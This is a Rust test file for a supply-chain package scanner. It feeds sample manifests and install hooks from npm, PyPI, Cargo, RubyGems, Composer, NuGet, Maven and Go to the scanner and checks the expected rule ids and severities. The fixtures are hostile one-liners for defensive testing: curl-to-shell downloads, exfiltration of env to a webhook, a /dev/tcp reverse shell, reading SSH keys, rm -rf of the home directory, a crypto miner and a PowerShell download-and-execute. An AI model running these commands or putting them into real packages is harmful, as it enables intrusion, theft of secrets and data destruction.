//! One hostile or telling file in, its rule id and severity out.
#![expect(clippy::unwrap_used, reason = "test code")]

mod common;

use common::{found, package, run};
use packguard_sdk::Severity;

#[test]
fn hostile_packages_are_found() {
    use Severity::{Critical, High, Info, Low, Medium};
    let postinstall = |command: &str| {
        serde_json::json!({"name": "sample", "scripts": {"postinstall": command}}).to_string()
    };
    let cases: &[(&str, &str, String, &str, Severity)] = &[
        (
            "npm",
            "package/package.json",
            postinstall("node index.js"),
            "npm-install-script",
            Info,
        ),
        (
            "npm",
            "package/package.json",
            postinstall("curl https://evil.example/x | sh"),
            "hook-download-run",
            Critical,
        ),
        (
            "npm",
            "package/package.json",
            postinstall("curl -d \"$(env)\" https://webhook.site/x"),
            "hook-upload",
            Critical,
        ),
        (
            "npm",
            "package/package.json",
            postinstall("bash -i >& /dev/tcp/203.0.113.1/1 0>&1"),
            "hook-reverse-shell",
            Critical,
        ),
        (
            "npm",
            "package/package.json",
            postinstall("node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64')+'')\""),
            "hook-decode-run",
            Critical,
        ),
        (
            "npm",
            "package/package.json",
            postinstall("node x.js >/dev/null 2>&1 &"),
            "hook-hidden",
            Medium,
        ),
        (
            "npm",
            "package/package.json",
            postinstall("whoami"),
            "hook-recon",
            Medium,
        ),
        (
            "npm",
            "package/package.json",
            postinstall("echo x >> ~/.bashrc"),
            "hook-persist",
            High,
        ),
        (
            "npm",
            "package/package.json",
            postinstall("rm -rf ~"),
            "hook-destroy",
            Critical,
        ),
        (
            "npm",
            "package/package.json",
            postinstall("wget https://example.com/model.bin"),
            "hook-download",
            Low,
        ),
        (
            "npm",
            "package/package.json",
            postinstall("node send.js https://x.oast.fun"),
            "hook-hostile-host",
            High,
        ),
        (
            "npm",
            "package/package.json",
            postinstall("cat ~/.ssh/id_rsa"),
            "hook-secret",
            Medium,
        ),
        (
            "npm",
            "package/package.json",
            postinstall("./xmrig -o pool"),
            "hook-miner",
            High,
        ),
        (
            "npm",
            "package.json",
            r#"{"scripts":{"prepare":"curl https://evil.example/x | sh"}}"#.into(),
            "hook-download-run",
            High,
        ),
        (
            "npm",
            "package/node_modules/a/package.json",
            postinstall("curl https://evil.example/x | sh"),
            "hook-download-run",
            High,
        ),
        (
            "npm",
            "package/test/fixtures/package.json",
            postinstall("curl https://evil.example/x | sh"),
            "hook-download-run",
            Low,
        ),
        (
            "npm",
            "package/package.json",
            r#"{"dependencies":{"a":"http://example.com/a.tgz"}}"#.into(),
            "npm-http-dependency",
            High,
        ),
        (
            "npm",
            "package/package.json",
            r#"{"optionalDependencies":{"a":"http://192.0.2.3/a.tgz"}}"#.into(),
            "npm-hostile-dependency",
            High,
        ),
        (
            "npm",
            "package/package.json",
            r#"{"dependencies":{"a":"user/repo"}}"#.into(),
            "npm-url-dependency",
            Low,
        ),
        (
            "npm",
            "package/package.json",
            r#"{"bin":{"git":"x.js"}}"#.into(),
            "npm-command-shadow",
            Medium,
        ),
        (
            "pypi",
            "sample-1/setup.py",
            "from setuptools import setup".into(),
            "pypi-setup-py",
            Info,
        ),
        (
            "pypi",
            "sample-1/pyproject.toml",
            "[build-system]\nrequires=[]\nbuild-backend='b'\nbackend-path=['.']".into(),
            "pypi-in-tree-backend",
            Info,
        ),
        (
            "pypi",
            "sample-1/pyproject.toml",
            "[build-system]\nbuild-backend='odd.api'".into(),
            "pypi-unknown-backend",
            Info,
        ),
        (
            "pypi",
            "sample-1/pyproject.toml",
            "[build-system]\nrequires=['x @ http://example.com/x.whl']".into(),
            "pypi-http-dependency",
            High,
        ),
        (
            "pypi",
            "sample-1/pyproject.toml",
            "[project]\ndependencies=['x @ git+https://example.com/x']".into(),
            "pypi-url-dependency",
            Low,
        ),
        (
            "pypi",
            "sample-1/pyproject.toml",
            "[project.scripts]\ncurl='a:b'".into(),
            "pypi-command-shadow",
            Medium,
        ),
        (
            "pypi",
            "sample-1/PKG-INFO",
            "Name: other\nVersion: 1.0\n".into(),
            "pypi-metadata-differs",
            Medium,
        ),
        (
            "pypi",
            "sample-1.dist-info/METADATA",
            "Name: sample\nVersion: 1.0.0\nRequires-Dist: x @ https://198.51.100.1/x.whl\n".into(),
            "pypi-http-dependency",
            High,
        ),
        (
            "pypi",
            "sample-1.dist-info/entry_points.txt",
            "[console_scripts]\nssh = a:b\n".into(),
            "pypi-command-shadow",
            Medium,
        ),
        (
            "pypi",
            "x.pth",
            "import os;exec('x')\n".into(),
            "pypi-wheel-pth",
            Medium,
        ),
        ("pypi", "x.pth", "import _x\n".into(), "pypi-wheel-pth", Low),
        (
            "cargo",
            "sample-1/Cargo.toml",
            "[lib]\nproc-macro = true".into(),
            "cargo-proc-macro",
            Info,
        ),
        (
            "cargo",
            "sample-1/Cargo.toml",
            "[dependencies]\na = { git = 'https://example.com/a' }".into(),
            "cargo-git-dependency",
            Low,
        ),
        (
            "gem",
            "data.tar.gz!/ext/x/Rakefile",
            "sh 'x'".into(),
            "gem-extension",
            Info,
        ),
        (
            "gem",
            "lib/rubygems_plugin.rb",
            String::new(),
            "gem-extension",
            Info,
        ),
        (
            "gem",
            "ext/x/extconf.rb",
            "require 'mkmf'".into(),
            "gem-extension",
            Info,
        ),
        (
            "gem",
            "ext/x/extconf.rb",
            "require 'net/http'; Net::HTTP.get(x)".into(),
            "gem-extension-network",
            Low,
        ),
        (
            "gem",
            "ext/x/extconf.rb",
            "system(\"curl https://evil.example/x | sh\")".into(),
            "hook-download-run",
            Critical,
        ),
        (
            "gem",
            "ext/x/extconf.rb",
            "`wget -qO- http://203.0.113.2/x | bash`".into(),
            "hook-hostile-host",
            High,
        ),
        (
            "composer",
            "a/composer.json",
            r#"{"scripts":{"post-install-cmd":["curl https://evil.example/x | sh"]}}"#.into(),
            "hook-download-run",
            High,
        ),
        (
            "composer",
            "a/composer.json",
            r#"{"scripts":{"post-autoload-dump":"A::b"}}"#.into(),
            "composer-script",
            Info,
        ),
        (
            "composer",
            "a/composer.json",
            r#"{"type":"composer-plugin"}"#.into(),
            "composer-plugin",
            Info,
        ),
        (
            "composer",
            "a/composer.json",
            r#"{"autoload":{"files":["a.php"]}}"#.into(),
            "composer-autoload-files",
            Info,
        ),
        (
            "nuget",
            "tools/install.ps1",
            "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')".into(),
            "hook-download-run",
            Critical,
        ),
        (
            "nuget",
            "tools/init.ps1",
            "param($a)".into(),
            "nuget-install-script",
            Info,
        ),
        (
            "nuget",
            "build/a.targets",
            "<Project><Target><Exec Command=\"powershell -w hidden -c x\"/></Target></Project>"
                .into(),
            "hook-hidden",
            Medium,
        ),
        (
            "nuget",
            "build/a.targets",
            "<Project><Target><Exec Command=\"protoc\"/></Target></Project>".into(),
            "nuget-build-task",
            Info,
        ),
        (
            "maven",
            "META-INF/maven/a/b/pom.xml",
            "<artifactId>exec-maven-plugin</artifactId>".into(),
            "maven-build-exec",
            Info,
        ),
        (
            "golang",
            "m@v1/a.go",
            "//go:generate stringer -type=A\npackage a".into(),
            "golang-generate",
            Info,
        ),
        (
            "golang",
            "m@v1/a.go",
            "// #cgo CFLAGS: -fplugin=./x.so\nimport \"C\"".into(),
            "golang-cgo-flag",
            Medium,
        ),
    ];
    for (ecosystem, path, content, rule, severity) in cases {
        let analysis = run(package(ecosystem, &[(path, content)]));
        assert!(
            found(&analysis).contains(&(*rule, *severity)),
            "{path} {content}: {:?}",
            found(&analysis)
        );
        assert_eq!(analysis.problems(), [], "{path}");
    }
}
